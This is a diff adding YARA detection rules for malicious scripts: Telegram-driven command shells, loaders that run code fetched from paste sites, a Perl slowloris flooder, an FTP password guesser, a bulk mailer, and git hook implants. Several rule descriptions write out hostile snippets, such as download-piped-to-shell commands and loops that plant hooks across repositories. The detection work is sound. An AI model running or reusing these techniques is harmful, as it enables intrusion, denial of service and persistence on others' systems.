@@ -2520,3 +2520,221 @@ rule bot_xargs_list_mailer : bot mailer
         filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang or extension == "") and
         $x and any of ($l*) and any of ($k*)
 }
+
+/* ---- round 9 (branch script9, seen = "none"): written from the
+ * techniques on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r9_*). */
+
+/* A Python bot controlled through Telegram: the updates read (the Bot API's
+ * getUpdates long poll, or a library's polling and command handlers), the
+ * message's text run as a shell command, the output sent back to the chat.
+ * An alert bot only sends; a status bot runs fixed argument lists picked
+ * from a table, never the text itself with a shell. */
+rule bot_telegram_command_shell : bot
+{
+    meta:
+        description = "Telegram-controlled bot: messages received from the Bot API (getUpdates, polling, command handlers) run as shell commands and the output sent back"
+        severity = "high"
+        technique = "requests.get(API + 'getUpdates') .. subprocess.check_output(msg['text'], shell=True) .. sendMessage; telebot @bot.message_handler: os.popen(m.text).read() + bot.reply_to; python-telegram-bot CommandHandler: subprocess.run(' '.join(context.args), shell=True) + reply_text"
+        seen = "none"
+    strings:
+        $tg1 = "api.telegram.org" ascii
+        $tg2 = /\bimport\s{1,4}telebot\b|\bfrom\s{1,4}(telegram|telegram\.ext|aiogram|telethon)\s{1,4}import\b/
+        // the orders received
+        $rx1 = "getUpdates" ascii
+        $rx2 = /\b(infinity_polling|run_polling|start_polling|polling)\s{0,2}\(|\bmessage_handler\s{0,2}\(|\bCommandHandler\s{0,2}\(|\bMessageHandler\s{0,2}\(/
+        // a shell run of something that is not a literal
+        $x1 = /\bsubprocess\.(run|call|Popen|check_output|check_call)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,160}\bshell\s{0,2}=\s{0,2}(True|1)\b/
+        $x2 = /\bPopen\s{0,2}\(\s{0,2}[a-zA-Z_][\w.\[\]:'"]{0,40}\s{0,2},[^\n]{0,120}\bshell\s{0,2}=\s{0,2}(True|1)\b/
+        $x3 = /\bos\.(popen|system)\s{0,2}\(\s{0,2}[a-zA-Z_]/
+        $x4 = /\b(subprocess\.|commands\.)?(getoutput|getstatusoutput)\s{0,2}\(\s{0,2}[a-zA-Z_]/
+        $x5 = /\bcreate_subprocess_shell\s{0,2}\(\s{0,2}[a-zA-Z_]/
+        // the answer sent back
+        $tx = /\bsendMessage\b|\b(reply_text|reply_to|send_message|reply_document|send_document)\s{0,2}\(/
+    condition:
+        filesize < 1MB and hs_lang_python and not hs_doc_file and any of ($tg*) and any of ($rx*) and
+        any of ($x*) and $tx
+}
+
+/* Code fetched from a paste site (pastebin's raw view, paste.ee, hastebin,
+ * a gist's raw file, rentry, dpaste...) and run: Python exec() of the text,
+ * however exec is reached (a helper that returns the text, compile(),
+ * getattr(builtins, ..), a Python 2 exec statement), or a shell piping it
+ * to an interpreter. A paste client uploads and prints; it runs nothing. */
+rule bot_paste_site_loader : bot
+{
+    meta:
+        description = "Loader fetching code from a paste site (pastebin raw, paste.ee, hastebin, gist raw, rentry...) and running it"
+        severity = "high"
+        technique = "exec(httpx.get('https://pastebin.com/raw/X').text); src = urlopen('https://paste.ee/r/X').read(); getattr(builtins, 'ex'+'ec')(src); exec base64.b64decode(urllib2.urlopen(U).read()) in globals(); curl -s https://hastebin.com/raw/X | sh"
+        seen = "none"
+    strings:
+        $ps = /\b(pastebin\.com\/(raw|dl)\b|pastebin\.com\/raw\.php|paste\.ee\/(r|d)\/|hastebin\.(com|skyra\.pw)\/raw\/|toptal\.com\/developers\/hastebin\/raw\/|gist\.githubusercontent\.com\/|rentry\.(co|org)\/[\w-]{1,40}\/raw|dpaste\.(com|org)\/[\w-]{1,30}(\/raw|\.txt)|paste\.rs\/|ghostbin\.\w{2,4}\/paste\/[\w-]{1,30}\/raw|controlc\.com\/|pastie\.org\/p\/[\w-]{1,30}\/raw|termbin\.com\/|bpa\.st\/raw\/|paste\.centos\.org\/view\/raw\/|pastebin\.pl\/view\/raw\/)/
+        // Python: the text fetched
+        $pf = /\b(urlopen|urllib\d?\.request\.urlopen|requests\.get|httpx\.get|\.get)\s{0,2}\(/
+        // and run
+        $px1 = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]/
+        $px2 = /\bexec\s{1,4}[a-zA-Z_][^\n]{0,120}\bin\s{1,4}(globals|locals|\w{1,20})\b/
+        $px3 = /\bgetattr\s{0,2}\(\s{0,2}(__)?builtins?(__)?\s{0,2},|\b__builtins__\s{0,2}(\.\s{0,2}__dict__\s{0,2})?\[|\bbuiltins\.(exec|eval)\s{0,2}\(/
+        // shell: fetched and piped to an interpreter
+        $sx = /\b(curl|wget)\s[^\n|]{0,200}\b(pastebin\.com\/raw|paste\.ee\/r\/|hastebin\.com\/raw\/|gist\.githubusercontent\.com\/|rentry\.(co|org)\/[\w-]{1,40}\/raw|dpaste\.(com|org)\/|paste\.rs\/|termbin\.com\/)[^\n|]{0,200}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|php)\b/
+    condition:
+        filesize < 1MB and not hs_doc_file and $ps and (
+            (hs_lang_python and $pf and any of ($px*)) or $sx)
+}
+
+/* A slow-headers flooder in Perl: many sockets opened to one server, each
+ * sent a request line and headers but never the blank line that ends a
+ * request, kept in a collection and fed one more header in a sleeping loop.
+ * A client ends its headers with "\r\n\r\n"; a load test uses LWP. */
+rule bot_perl_slow_headers_flood : bot
+{
+    meta:
+        description = "Perl slow-headers (slowloris-like) flooder: many sockets each holding an unfinished HTTP request, fed a header at a time in a sleeping loop"
+        severity = "high"
+        technique = "for (1..$n) { $s = IO::Socket::INET->new(..); print $s \"GET /?$r HTTP/1.1\\r\\nHost: $h\\r\\n\"; push @s, $s } while (1) { print $_ \"X-a: \" . int(rand(5000)) . \"\\r\\n\" for @s; sleep 15 }"
+        seen = "none"
+    strings:
+        $rl = /\b(GET|POST|HEAD) \/[^"'\n]{0,60} HTTP\/1\.[01]\\r\\n/
+        // or the path joined in: "GET /" . $p . " HTTP/1.1\r\n"
+        $rl2 = /["'](GET|POST|HEAD) \/["']\s{0,2}\.[^\n]{0,120}["'] HTTP\/1\.[01]\\r\\n/
+        $end = "\\r\\n\\r\\n" ascii
+        $so = /\bIO::Socket::(INET|IP|SSL)\s{0,2}->\s{0,2}new\s{0,2}\(|\bsocket\s{0,2}\(\s{0,2}(my\s{1,4})?[\$\w]{1,30}\s{0,2},\s{0,2}(PF_INET|AF_INET|2)\b/
+        // many of them, opened in a counted loop and kept
+        $n1 = /\b1\s{0,2}\.\.\s{0,2}\$\w{1,30}/
+        $k1 = /\bpush\s{0,2}\(?\s{0,2}@\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}/
+        $k2 = /@\w{1,30}\s{0,2}=\s{0,2}(map|grep)\s{0,2}\{/
+        // (or a hash of them walked with keys; a regex on `$h{$k} = $fh` or
+        // `$a[$i] = f(` costs 400 M on PHP, where every line stores into an array)
+        $k3 = /\bkeys\s{1,2}%\w{1,30}/
+        // the pause between header lines
+        $sl = /\bsleep\s{0,2}\(?\s{0,2}\d|\bselect\s{0,2}\(\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},/
+    condition:
+        filesize < 512KB and hs_lang_perl and not hs_doc_file and ($rl or $rl2) and not $end and $so and $n1 and
+        any of ($k*) and $sl
+}
+
+/* An FTP password guesser in Perl: Net::FTP connections made in a loop over
+ * a word list or user:password pairs read from a file, each tried with
+ * login($user, $pass), the working ones printed or kept. A backup script
+ * logs in once with its configured account and then walks its files. */
+rule bot_perl_ftp_login_guesser : bot hacktool
+{
+    meta:
+        description = "Perl FTP password guesser: Net::FTP logins tried in a loop over a word list or combo file"
+        severity = "high"
+        technique = "while (my $pw = <$W>) { my $f = Net::FTP->new($h); if ($f->login($u, $pw)) { print \"[+] $u:$pw\" } }; foreach $cp (@pairs) { ($u, $p) = @$cp; $f->login($u, $p) or next }"
+        seen = "none"
+    strings:
+        $nf = /\bNet::FTP\s{0,2}->\s{0,2}new\s{0,2}\(/
+        $lg = /->\s{0,2}login\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}\s{0,2}\)/
+        // the loop head: over a file's lines or over a list
+        $lp1 = /\bwhile\s{0,2}\(\s{0,2}(defined\s{0,2}\(\s{0,2})?(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}(<\s{0,2}\$?\w{1,30}\s{0,2}>|readline)/
+        $lp2 = /\bfor(each)?\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,2}\(\s{0,2}@\w{1,30}\s{0,2}\)/
+        // a list from a file
+        $rf = /\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{1,30}\s{0,2},|<\s{0,2}\$\w{1,30}\s{0,2}>|<STDIN>/
+    condition:
+        filesize < 512KB and hs_lang_perl and not hs_doc_file and $rf and
+        for any i in (1..#lg) : (
+            (for any j in (1..#lp1) : ( @lp1[j] < @lg[i] and @lp1[j] + 600 > @lg[i] ) or
+             for any j in (1..#lp2) : ( @lp2[j] < @lg[i] and @lp2[j] + 600 > @lg[i] )) and
+            for any k in (1..#nf) : ( @nf[k] < @lg[i] and @nf[k] + 300 > @lg[i] ) )
+}
+
+/* A MIME::Lite bulk mailer: a list read from a file (or argv, stdin), a
+ * message built per entry with the entry as its To, sent each round, with
+ * a sign of a campaign (a subject or From made per message, an HTML letter
+ * with the address filled in, pauses every N messages, a relay with a
+ * login). A report mails one letter to a fixed list joined into one To. */
+rule bot_perl_mimelite_list_mailer : bot mailer
+{
+    meta:
+        description = "Perl MIME::Lite bulk mailer: one message per address of a list file, sent in the loop"
+        severity = "high"
+        technique = "for my $dest (@to) { my $m = MIME::Lite->new(From => .., To => $dest, Subject => .., Type => 'multipart/alternative'); $m->attach(Type => 'text/html', Data => $letter =~ s/%EMAIL%/$dest/gr); $m->send }"
+        seen = "none"
+    strings:
+        $new = /\bMIME::Lite\s{0,2}->\s{0,2}new\s{0,2}\(/
+        // (spaces, not \s: a `\s` before `=>` made YARA key it on `=>`, +14 M)
+        $to = /\bTo {1,8}=> {0,2}\$\w|\bTo=>\$\w/
+        $snd = /->\s{0,2}(send|send_by_smtp|send_by_sendmail)\s{0,2}\(?/
+        $lp1 = /\bwhile\s{0,2}\(\s{0,2}(defined\s{0,2}\(\s{0,2})?(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}(<\s{0,2}\$?\w{1,30}\s{0,2}>|readline)/
+        $lp2 = /\bfor(each)?\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,2}\(\s{0,2}@\w{1,30}\s{0,2}\)/
+        $rf = /\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{1,30}\s{0,2},|\blocal\s{1,4}@ARGV\b|\bshift\s{0,2}(\(\s{0,2})?@ARGV\b|<STDIN>|\$ARGV\[/
+        // campaign signs
+        $c1 = /text\/html/
+        $c2 = /\bSubject\s{0,8}=>\s{0,4}\$\w{1,30}/
+        $c3 = /\bsleep\s{0,2}\(?\s{0,2}\d|\bselect\s{0,2}\(\s{0,2}undef/
+        $c4 = /\bAuth(User|Pass)\s{0,4}=>|\bs\/%\w{1,20}%\/\$\w{1,30}\//
+    condition:
+        filesize < 512KB and hs_lang_perl and not hs_doc_file and $rf and
+        for any i in (1..#new) : ( $to in (@new[i] .. @new[i] + 400) and $snd in (@new[i] .. @new[i] + 800) and
+            (for any j in (1..#lp1) : ( @lp1[j] < @new[i] and @lp1[j] + 600 > @new[i] ) or
+             for any j in (1..#lp2) : ( @lp2[j] < @new[i] and @lp2[j] + 600 > @new[i] )) ) and
+        2 of ($c*)
+}
+
+/* Git hooks as persistence. A hook file (a file named as git's hooks are:
+ * REPO/.git/hooks/NAME, a husky or core.hooksPath directory) runs at every commit, checkout or merge: one
+ * that pipes a download to a shell (from any source: no build step fetches
+ * code in a hook), starts a hidden or temp-dir program in the background,
+ * opens /dev/tcp or runs fetched Python is an implant. And a script that
+ * writes such a hook into repositories or points core.hooksPath at its own
+ * directory. husky, lefthook and the pre-commit framework run linters and
+ * the project's own tools. */
+private rule hs_git_hook_payload
+{
+    strings:
+        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
+        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
+        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
+        $p4 = "/dev/tcp/" ascii
+        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
+        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+    condition:
+        any of them
+}
+
+rule bot_git_hook_implant : bot
+{
+    meta:
+        description = "Git hook (a file named post-merge, pre-commit, post-checkout...) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
+        severity = "high"
+        technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
+        seen = "none"
+    condition:
+        filesize < 256KB and
+        // by the hook's name, not its path: a rule that reads `filepath` makes the
+        // scanner judge every copy of a file apart (no verdict reused for the same
+        // WordPress in a hundred accounts: scan_memo.sh)
+        filename matches /^(pre-commit|pre-merge-commit|prepare-commit-msg|commit-msg|post-commit|pre-rebase|post-checkout|post-merge|pre-push|pre-receive|post-receive|post-update|push-to-checkout|pre-auto-gc|post-rewrite|reference-transaction|applypatch-msg|pre-applypatch|post-applypatch|sendemail-validate|post-index-change)$/ and
+        not hs_doc_file and hs_git_hook_payload
+}
+
+rule bot_git_hook_install : bot
+{
+    meta:
+        description = "Script writing a git hook that fetches and runs code or starts a hidden program, or pointing core.hooksPath at its own directory of such hooks"
+        severity = "high"
+        technique = "for g in $(find ~ -name .git); do printf '#!/bin/sh\\n(curl .. | sh) &\\n' > $g/hooks/post-merge; chmod +x ..; done; git config --global core.hooksPath ~/.config/.h"
+        seen = "none"
+    strings:
+        $hk = /hooks\/(pre-commit|pre-push|pre-rebase|pre-merge-commit|post-merge|post-checkout|post-commit|post-rewrite|post-receive|pre-receive|post-update|prepare-commit-msg|commit-msg)\b|["'](pre-commit|pre-push|post-merge|post-checkout|post-commit|post-rewrite)["']/
+        $hp = /\bcore\.hooksPath\b/
+        $gl = /\bgit\s{1,4}config\s{1,4}(--global|--system)\s{1,4}core\.hooksPath\s/
+        // the hook's payload (hs_git_hook_payload's), near the hook's name: a
+        // developer's setup script may install tools with curl | sh and, far
+        // from it, copy the project's hooks
+        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
+        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
+        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
+        $p4 = "/dev/tcp/" ascii
+        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
+        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+    condition:
+        filesize < 512KB and not hs_doc_file and
+        (hs_lang_shell or hs_shebang or hs_lang_python or hs_lang_perl) and
+        ($hk or ($hp and $gl)) and hs_git_hook_payload and
+        for any of ($p*) : ( for any i in (1..#) : (
+            for any j in (1..#hk) : ( @hk[j] > @[i] - 600 and @hk[j] < @[i] + 600 ) or
+            for any j in (1..#gl) : ( @gl[j] > @[i] - 600 and @gl[j] < @[i] + 600 ) ) )
+}
